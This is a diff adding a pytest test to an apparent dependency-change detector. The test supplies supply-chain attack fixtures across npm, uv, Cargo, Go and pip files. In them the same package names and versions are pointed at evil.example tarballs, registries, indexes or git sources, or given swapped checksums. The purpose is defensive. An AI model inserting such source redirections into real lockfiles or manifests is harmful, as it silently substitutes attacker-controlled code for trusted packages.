@@ -94,3 +94,42 @@ def test_a_file_past_the_bound_is_not_tokenised_so_its_lines_count() -> None:
         {"a.py": ("x = 1\n", "# note\nx = 1\n")}, {"a.py": "@@ -0,0 +1 @@\n+# note\n"}
     )
     assert small["a.py"].quiet and small["a.py"].raw == 1
+
+
+def _lock(resolved: str, integrity: str) -> str:
+    package = {"version": "4.17.21", "resolved": resolved, "integrity": integrity}
+    return json.dumps({"lockfileVersion": 3, "packages": {"": {}, "node_modules/lodash": package}})
+
+
+@pytest.mark.parametrize(
+    ("name", "before", "after"),
+    [
+        ("package-lock.json",  # same version, the tarball from elsewhere
+         _lock("https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz", "sha512-good"),
+         _lock("https://evil.example/lodash-4.17.21.tgz", "sha512-evil")),
+        ("uv.lock",
+         '[[package]]\nname = "requests"\nversion = "2.32.3"\n'
+         'source = { registry = "https://pypi.org/simple" }\n',
+         '[[package]]\nname = "requests"\nversion = "2.32.3"\n'
+         'source = { registry = "https://evil.example/simple" }\n'),
+        ("Cargo.lock",
+         '[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/'
+         'rust-lang/crates.io-index"\nchecksum = "aa"\n',
+         '[[package]]\nname = "serde"\nversion = "1.0.0"\nsource = "registry+https://github.com/'
+         'rust-lang/crates.io-index"\nchecksum = "bb"\n'),
+        ("go.sum", "golang.org/x/text v0.3.0 h1:good=\n", "golang.org/x/text v0.3.0 h1:evil=\n"),
+        ("requirements.txt", "requests==2.32.3\n",
+         "--extra-index-url https://evil.example/simple\nrequests==2.32.3\n"),
+        ("pyproject.toml", '[project]\ndependencies = ["requests"]\n',
+         '[project]\ndependencies = ["requests"]\n'
+         '[tool.uv.sources]\nrequests = { git = "https://evil.example/requests" }\n'),
+    ],
+)  # fmt: skip
+def test_attack_code_from_another_place_at_the_same_version_is_a_dependency_change(
+    name: str, before: str, after: str
+) -> None:
+    """ATTACK: the pull request keeps every name and version and changes where the code comes
+    from (a lockfile's tarball and hash, a registry, an index, a source override): the same
+    third-party name, other code. Read as "no entry changed", the file was configuration and
+    the dependency floor did not hold."""
+    assert changed_entries(name, before, after), name
